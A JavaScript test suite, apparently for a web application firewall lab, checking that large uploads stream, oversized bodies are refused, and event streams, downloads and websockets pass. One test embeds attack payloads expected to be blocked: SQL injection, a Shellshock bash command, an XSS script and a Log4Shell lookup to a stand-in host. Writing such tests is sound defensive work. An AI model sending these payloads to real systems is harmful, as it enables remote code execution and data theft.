// What is too large or too slow to be held back: uploads, downloads, server-sent events, websockets.
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { sleep } from '../hosts/shell.mjs';
import { bytesOf, send } from './client.mjs';
import { EDGE, POD } from './lab.mjs';

const HEADERS = { 'User-Agent': 'Mozilla/5.0', Accept: '*/*', 'X-Forwarded-For': '203.0.113.7', 'X-Forwarded-Proto': 'https' };
const MEBIBYTE = 1 << 20;
const UPLOAD = { method: 'PUT', host: 'cloud.example.org', path: '/remote.php/dav/uploads/marie/1/00001' };

const head = (request) => bytesOf({ ...request, headers: { ...HEADERS, ...request.headers } });
const open = () => connect({ host: POD, port: 8080, localAddress: EDGE });
const answerOf = (socket) =>
  new Promise((done) => {
    let text = '';
    socket.on('data', (chunk) => (text += chunk));
    socket.on('close', () => done(text));
    socket.on('error', () => done(text));
  });
const write = (socket, chunk) => new Promise((done) => (socket.write(chunk) ? done() : socket.once('drain', done)));

export const STREAMS = {
  'a large file reaches the service while it is still being sent, and takes no memory': async (lab) => {
    const size = 300 * MEBIBYTE;
    const before = lab.memory();
    const socket = open();
    const answer = answerOf(socket);
    await write(socket, head({ ...UPLOAD, headers: { 'Content-Type': 'application/octet-stream', 'Content-Length': String(size) } }));
    const chunk = Buffer.alloc(MEBIBYTE, 'x');
    for (let sent = 0; sent < size / 2; sent += MEBIBYTE) await write(socket, chunk);
    await sleep(0.5);
    const halfway = lab.seen.at(-1);
    assert.ok(halfway.url === UPLOAD.path && halfway.first !== undefined, 'the service saw nothing of the first half');
    for (let sent = size / 2; sent < size; sent += MEBIBYTE) await write(socket, chunk);
    assert.match(await answer, /^HTTP\/1\.1 200 /);
    assert.equal(halfway.bytes, size);
    assert.ok(lab.memory() - before < 32, `memory grew by ${lab.memory() - before} MiB`);
  },
  'address and headers of a large file are inspected': async (lab) => {
    const before = lab.seen.length;
    const file = { 'Content-Type': 'application/octet-stream' };
    const attacks = [
      { ...UPLOAD, path: `${UPLOAD.path}?x=1%27%20UNION%20SELECT%20password%20FROM%20users--%20`, headers: file },
      { ...UPLOAD, headers: { ...file, Referer: '() { :; }; /bin/bash -c id' } },
      { ...UPLOAD, headers: { ...file, Cookie: 'a=<script>alert(1)</script>' } },
      { ...UPLOAD, headers: { ...file, 'User-Agent': '${jndi:ldap://evil.example.net/a}' } },
    ];
    for (const attack of attacks) {
      const { status } = await send(head({ ...attack, body: 'file' }), { address: POD, port: 8080, from: EDGE });
      assert.equal(status, 403, JSON.stringify(attack));
    }
    assert.equal(lab.seen.length, before);
  },
  'a body that is too large to be inspected is refused, whatever it calls itself': async (lab) => {
    const before = lab.seen.length;
    const large = (request, type, mebibytes) =>
      head({ ...request, headers: { 'Content-Type': type, 'Content-Length': String(mebibytes * MEBIBYTE) } });
    const cases = [
      [large(UPLOAD, 'application/json', 40), 413],
      [large(UPLOAD, 'text/xml', 40), 413],
      [large({ ...UPLOAD, method: 'POST' }, 'application/octet-stream', 40), 413],
      [large(UPLOAD, 'application/octet-stream', 1025), 413],
      [large({ method: 'PUT', host: 'api.example.org', path: '/v1/files' }, 'application/octet-stream', 11), 413],
    ];
    for (const [bytes, expected] of cases) {
      const { status } = await send(bytes, { address: POD, port: 8080, from: EDGE });
      assert.equal(status, expected, bytes.toString().slice(0, 60));
    }
    assert.equal(lab.seen.length, before);
  },
  'a body that is larger than what an editor posts is refused': async () => {
    const form = (count) => ({
      method: 'POST',
      host: 'shop.example.org',
      headers: { ...HEADERS, 'Content-Type': 'application/x-www-form-urlencoded' },
      body: `text=${'word '.repeat(count)}`,
    });
    const status = async (count) => (await send(bytesOf(form(count)), { address: POD, port: 8080, from: EDGE })).status;
    assert.equal(await status(20_000), 200);
    assert.ok([400, 403].includes(await status(1_200_000 / 5)));
  },
  'events of a chat arrive one by one': async (lab) => {
    lab.answers = (_, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write('data: one\n\n');
      setTimeout(() => response.end('data: two\n\n'), 1500);
      return true;
    };
    const socket = open();
    let first;
    socket.on(
      'data',
      (chunk) => (first ??= String(chunk).includes('data: one') && !String(chunk).includes('data: two') ? Date.now() : undefined),
    );
    const start = Date.now();
    const answer = answerOf(socket);
    await write(socket, head({ host: 'chat.example.org', path: '/events' }));
    assert.match(await answer, /data: one[^]*data: two/);
    assert.ok(first !== undefined && first - start < 1000, 'the first event waited for the second');
  },
  'a large download passes whole': async (lab) => {
    const body = Buffer.alloc(30 * MEBIBYTE, 'y');
    lab.answers = (_, response) => {
      response.writeHead(200, { 'content-type': 'application/zip', 'content-length': body.length }).end(body);
      return true;
    };
    const { status, body: got } = await send(head({ host: 'shop.example.org', path: '/archive.zip' }), {
      address: POD,
      port: 8080,
      from: EDGE,
    });
    assert.deepEqual([status, got.length], [200, body.length]);
  },
  'a websocket speaks both ways': async () => {
    const socket = open();
    const answer = answerOf(socket);
    const upgrade = {
      Connection: 'Upgrade',
      Upgrade: 'websocket',
      'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==',
      'Sec-WebSocket-Version': '13',
    };
    await write(socket, head({ host: 'shop.example.org', path: '/live', headers: upgrade }));
    await sleep(0.3);
    await write(socket, "frame: ' OR 1=1");
    await sleep(0.3);
    socket.end();
    assert.match(await answer, /^HTTP\/1\.1 101 [^]*frame: ' OR 1=1$/);
  },
};
